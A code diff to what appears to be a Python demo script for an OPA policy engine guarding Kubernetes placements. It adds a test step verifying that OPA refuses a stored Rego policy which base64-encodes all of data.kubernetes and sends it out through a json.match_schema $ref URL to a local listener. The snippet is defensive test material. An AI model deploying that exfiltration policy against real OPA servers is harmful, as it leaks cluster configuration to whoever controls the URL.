@@ -7,6 +7,8 @@ Each step states what it expects before it looks, and looks at what the API serv
 
 from __future__ import annotations
 
+import socket
+from contextlib import suppress
 from functools import partial
 
 from tools.demo.fleet import (
@@ -36,6 +38,13 @@ _BOTH_EU = ("gce-europe-west1", "gce-europe-west2")
 _ANYWHERE = tuple(sorted(CLUSTERS))
 _EDITED = POLICY.read_text(encoding="utf-8").replace('"rebalance": true', '"rebalance": false')
 
+_SENDING = """
+leaked if {
+	sent := base64url.encode(json.marshal(data.kubernetes))
+	json.match_schema({}, {"$ref": sprintf("http://127.0.0.1:%d/?%s", [PORT, sent])})
+}
+"""
+
 Placements = dict[str, Placement | None]
 
 
@@ -56,6 +65,7 @@ def tell(world: World, narrator: Narrator) -> None:
     a_workload_is_explained(world, narrator)
     a_dangerous_edit_is_planned(world, narrator, _EDITED)
     a_broken_policy_is_stored(world, narrator)
+    a_policy_would_send_data_out(world, narrator)
     opa_is_killed(world, narrator)
 
 
@@ -198,6 +208,30 @@ def a_broken_policy_is_stored(world: World, narrator: Narrator) -> None:
         narrator.see("after it is mended", {"status": "ok"}, world.policy_status)
 
 
+def a_policy_would_send_data_out(world: World, narrator: Narrator) -> None:
+    """Who may write a policy may place workloads, and gets nothing out of OPA."""
+    with (
+        narrator.step("A policy would send OPA's data out: it is refused, its author reads why"),
+        socket.create_server(("127.0.0.1", 0)) as listener,
+    ):
+        listener.settimeout(0)
+        sending = _SENDING.replace("PORT", str(listener.getsockname()[1]))
+        world.store(policy_map(_EDITED + sending))
+        row = _EDITED.count("\n") + 4
+        expected: object = ("error", f"{POLICIES}/placement/placement.rego", row)
+        narrator.see(
+            "what its author reads on it: status, file, row",
+            expected,
+            lambda: _mistake(world.policy_status()),
+        )
+        narrator.quote(_message(world.policy_status()))
+        said = world.store(replica_set("nginx-latest", eu=True))
+        narrator.see("the answer to a create meanwhile", ADMITTED, lambda: said)
+        narrator.see("who was called with the data", "nobody", lambda: _called(listener))
+        world.store(policy_map(_EDITED))
+        narrator.see("after it is mended", {"status": "ok"}, world.policy_status)
+
+
 def opa_is_killed(world: World, narrator: Narrator) -> None:
     """Without OPA nothing is let through, and nothing has to be done when it is back."""
     with narrator.step("OPA is killed: creates are refused, with the reason"):
@@ -211,7 +245,7 @@ def opa_is_killed(world: World, narrator: Narrator) -> None:
         world.stack.opa.start()
         narrator.see(
             "OPA's data against the API server's objects",
-            "equal: 4 clusters and 5 replicasets",
+            "equal: 4 clusters and 6 replicasets",
             world.opa_equals_api_server,
         )
         narrator.see("the policies that it holds", 1, world.opa_policies)
@@ -239,3 +273,19 @@ def _mistake(status: object) -> object:
         case {"status": said, "error": {"errors": [{"location": {"file": file, "row": row}}, *_]}}:
             return said, file, row
     return status
+
+
+def _message(status: object) -> str:
+    match status:
+        case {"error": {"message": str(message)}}:
+            return message
+    return str(status)
+
+
+def _called(listener: socket.socket) -> str:
+    """Return who came to a listener that waits for nobody."""
+    with suppress(BlockingIOError):
+        connection, (host, *_) = listener.accept()
+        connection.close()
+        return str(host)
+    return "nobody"
